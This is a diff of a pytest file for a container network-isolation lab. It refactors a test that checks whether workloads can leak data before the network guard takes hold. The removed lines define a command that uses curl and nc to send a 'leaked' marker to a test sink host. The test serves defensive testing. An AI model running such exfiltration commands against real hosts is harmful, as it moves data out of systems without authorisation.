@@ -10,7 +10,14 @@ import pytest
 from lab import plan
 from lab.daemon import Daemon, Sandbox, running
 from lab.engine import IMAGE, MACHINE, Engine, engine
-from lab.guarded import NEIGHBOUR, WITH_ATTACKS, ask_dockers_resolver, user_defined_network
+from lab.guarded import (
+    NEIGHBOUR,
+    SEND,
+    WITH_ATTACKS,
+    ask_dockers_resolver,
+    show_leak,
+    user_defined_network,
+)
 from lab.internet import Internet
 from lab.processes import check, wait_until
 from lab.sandgate import allowing
@@ -75,8 +82,6 @@ def test_network_is_guarded_before_the_workload_begins(internet: Internet, daemo
     docker.docker("rm", "--force", holder)
 
 
-SEND = f"curl -s -m 1 tftp://{plan.SINK4}:4444/leaked; echo leaked | nc -w 1 {plan.SINK4} 4444"
-"""To a sink, as a datagram and over TCP."""
 NOWHERE = (
     "ip link add nowhere type bridge && ip address add 192.0.0.2/32 dev nowhere && "
     "ip link set nowhere up && ip route add default dev nowhere"
@@ -88,15 +93,7 @@ NOWHERE = (
     "T4", "floods from its first instruction in a network that leads nowhere but to the daemon", stopped_by="kernel"
 )
 def test_network_that_leads_nowhere_unless_it_is_guarded(internet: Internet, daemon: Daemon, docker: Engine) -> None:
-    free = docker.docker("run", "--detach", "--cap-drop", "ALL", IMAGE, "/bin/sh", "-c", f"{SEND}; sleep 600")
-    services: set[str] = set()
-
-    def arrived() -> bool:
-        services.update(arrival.service for arrival in internet.sinks.arrivals() if "leaked" in arrival.data)
-        return services == {"tcp-sink", "udp-sink"}
-
-    wait_until(arrived, "what is sent before anybody could attach", 30)
-    docker.docker("rm", "--force", free)
+    show_leak(internet, docker, "/bin/sh", "-c", f"{SEND}; sleep 600")
     holder = docker.start("--network", "none", "--cap-drop", "ALL", "--name", "box-net")
     process = docker.inspect(holder, "{{.State.Pid}}")
     check("nsenter", f"--net=/proc/{process}/ns/net", "/bin/sh", "-c", NOWHERE)
